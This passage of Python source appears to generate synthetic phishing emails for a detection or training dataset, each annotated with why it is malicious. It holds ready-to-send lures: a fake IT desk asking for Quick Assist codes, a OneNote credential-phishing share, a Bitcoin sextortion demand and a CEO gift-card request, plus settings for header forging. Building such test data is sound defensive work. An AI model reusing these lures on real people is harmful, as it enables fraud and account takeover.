        what="Remote-access vishing pretext: 'Example Group IT Service Desk' from an external *.onmicrosoft.com tenant warns of a spam flood and announces a Teams call in which the user must start Quick Assist and share the code.",
        why="External Microsoft 365 tenant impersonating internal IT (the real service desk mails via the internal relay), spam-flood pretext followed by a call asking to start Quick Assist - the TTP used by ransomware affiliates to gain hands-on-keyboard access; contradicts the internal policy (business 13).",
        technique="Vishing pretext - Teams call + Quick Assist remote access (email-bombing follow-up)",
        infra="attacker-owned Microsoft 365 trial tenant (genuine Exchange Online outbound)", pair="business 13")
def a13():
    t = L("UK", 2026, 11, 24, 9, 6, 12)
    text = """Hi James,

We have detected that your mailbox is currently being targeted by a spam flood (more than 2,000 newsletter subscriptions in the last hour). Our security team is applying a filter to your account to stop it.

To complete this we need about 5 minutes with you. A colleague from the Service Desk will call you on Microsoft Teams shortly from the account "Help Desk - Example Group". Please accept the call and follow the technician's instructions: you will be asked to start Quick Assist (press Windows key + Ctrl + Q) and read out the 6-digit code so that we can apply the filter on your laptop.

Please do not restart your laptop or delete any e-mails until we have finished.

Kind regards,

Tobias Schmid
IT Service Desk
Example Group GmbH"""
    p = X.P.ExchangeOnline(region="namprd12", charset="utf-8", html_style="owa", lang="en-US",
                           tenant_id="3d0c6a84-b91e-4f27-8c5d-27e14af90b63")
    return compose(p, ("Example Group IT Service Desk", "it-servicedesk@examplegroupit.onmicrosoft.com"),
                   [S("mgr_lon")], "Spam flood on your mailbox - Service Desk will call you on Teams", t, text,
                   name="a13")


@attack(14, "en", "compromised-surveyor-onenote-share",
        what="Account-takeover campaign from the surveyor's genuine Microsoft 365 mailbox: generic 'secure document shared via OneDrive' message addressed to the sender herself with the victim in Bcc, linking to a OneNote notebook on the partner's SharePoint.",
        why="Sent from the real tenant (compromised account), but addressed To: the sender with recipients hidden in Bcc, generic wording unrelated to the project, a 'remittance & invoice' lure pointing to a OneNote (:o:) item rather than a PDF - the OneNote page hosts the phishing link; contrast the genuine share in business 14.",
        technique="Compromised partner account -> abused SharePoint/OneNote link (credential phishing)",
        infra="genuine Microsoft 365 tenant of the partner (account takeover), link on *.sharepoint.com", pair="business 14")
def a14():
    t = L("UK", 2026, 11, 26, 6, 52, 41)
    link = "https://haldensurveying-my.sharepoint.com/:o:/g/personal/rachel_cole_haldensurveying_co_uk/EhT3mQ0pV8lBnW5kRz1aYf0BxqT2LcUo9Hd7Pjw4sKv3Ng?e=z2XkP1"
    text = """Hello,

Rachel Cole has shared a secure document with you via OneDrive for Business.

Document: Remittance Advice & Survey Invoice HS-2026-1184.pdf
Shared by: rachel.cole@haldensurveying.co.uk

Review Document: %s

This link will only work for the direct recipients of this message.

Kind regards,

""" % link + SIG_RC
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body dir="ltr"><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Hello,</p><p>Rachel Cole has shared a secure document with you via OneDrive for Business.</p>
<table style="border:1px solid #ddd;padding:12px;background:#faf9f8"><tr><td>
<b>Remittance Advice &amp; Survey Invoice HS-2026-1184.pdf</b><br><span style="color:#666">Shared by: rachel.cole@haldensurveying.co.uk</span><br><br>
<a href="%s" style="background:#0078d4;color:#fff;padding:8px 18px;text-decoration:none">Review Document</a></td></tr></table>
<p style="font-size:9pt;color:#666">This link will only work for the direct recipients of this message.</p>
<p>Kind regards,</p><p>%s</p></div></body></html>
""" % (link, SIG_RC.replace("\n", "<br>\n"))
    return compose(X.halden(charset="iso-8859-1", html_style=None), ("Rachel Cole", "rachel.cole@haldensurveying.co.uk"),
                   [("Rachel Cole", "rachel.cole@haldensurveying.co.uk")],
                   "Rachel Cole has shared \"Remittance Advice & Survey Invoice HS-2026-1184\" with you", t, text,
                   html, name="a14", rcpt=S("mgr_lon")[1])


@attack(15, "en", "sextortion-bitcoin-spoofed-self",
        what="Sextortion/extortion: claims the victim's devices were hacked and compromising recordings exist; demands USD 1,450 in Bitcoin to a bech32 address within 48 hours; From forged as the victim's own address.",
        why="Forged From = recipient's own example.com address arriving from a residential IP without TLS and with a bogus HELO; unfounded hacking claim, Bitcoin ransom, deadline, 'tracking pixel' bluff; base64 text body to evade content filters.",
        technique="Extortion (sextortion) with Bitcoin ransom, spoofed own address", infra="spam bot on residential IP (no rDNS, no TLS)",
        pair="business 15")
def a15():
    t = L("UK", 2026, 11, 30, 3, 17, 44)
    h = hashlib.sha256(b"audit110-extortion-wallet").digest()[:20]
    btc = I.bech32_address(h)
    assert I.bech32_ok(btc)
    text = """Hello James,

I'll get straight to the point. Some months ago I gained access to the devices you use for browsing the internet, through a vulnerability in your router firmware. Since then I have been watching your activity.

I know your work address (the one this e-mail was sent from) and your contacts. My software recorded the screen and the camera while you were visiting certain adult websites. I have put together a video that shows both side by side. I think you understand what happens if your colleagues, your clients and your family receive it.

I am prepared to delete everything. The price is USD 1,450 in Bitcoin.

My BTC address: %s

(copy and paste it exactly, it is case-sensitive)

You have 48 hours from the moment you opened this e-mail - I placed a tracking pixel in it, so I know when you read it. If I receive the payment, the video and all your data will be deleted and you will never hear from me again. If not, the video goes out to all your contacts.

Do not reply to this e-mail and do not try to contact the police - the address is not traceable, and changing your passwords will not help, my malware is in the firmware.

If you do not know how to buy Bitcoin, search "how to buy bitcoin" - it takes ten minutes.""" % btc
    p = X.bot("[177.72.186.44]", "177.72.186.44", env_from="info@vitrineimoveis-sp.com.br",
              fake_host="example.com", mailer=None, charset="utf-8", cte="base64", quote_cs=True, zone="UTC")
    return compose(p, ("James Whitfield", "james.whitfield@example.com"), [("James Whitfield", "james.whitfield@example.com")],
                   "james.whitfield - your account has been compromised (pending payment)", t, text, name="a15",
                   text_only=True)


@attack(16, "en", "gift-card-ceo-impersonation-gmail",
        what="Gift-card scam: 'Katharina Brenner' on a Gmail address asks the London accountant to discreetly buy ten £200 Apple gift cards for clients today.",
        why="CEO display name on an unknown Gmail account, 'Sent from my iPhone', unavailable for calls, secrecy, gift cards as payment = classic gift-card BEC; HR announced that management never asks for gift cards (business 16).",
        technique="BEC - gift-card scam (CEO impersonation)", infra="Gmail (free mailer)", pair="business 16")
def a16():
    t = L("UK", 2026, 12, 7, 12, 41, 9)
    text = """Hi Priya,

Are you at your desk? I need you to handle something for me discreetly today. I'm in back-to-back meetings in Milan and can only e-mail.

We're surprising a few of our long-standing clients in London with a small thank-you before the holidays and I'd like you to purchase some Apple gift cards - 10 x £200. I'll have it reimbursed through expenses tomorrow.

Can you get them this afternoon? Let me know and I'll tell you what to do next. Please keep it between us for now, it's meant to be a surprise.

Katharina

Sent from my iPhone"""
    return compose(X.gmail(html_style=None, iphone=True, charset="utf-8", cte="quoted-printable"),
                   ("Katharina Brenner", "katharina.brenner.ceo@gmail.com"),
                   [S("acc_lon")], "Quick favour", t, text, name="a16", text_only=True)
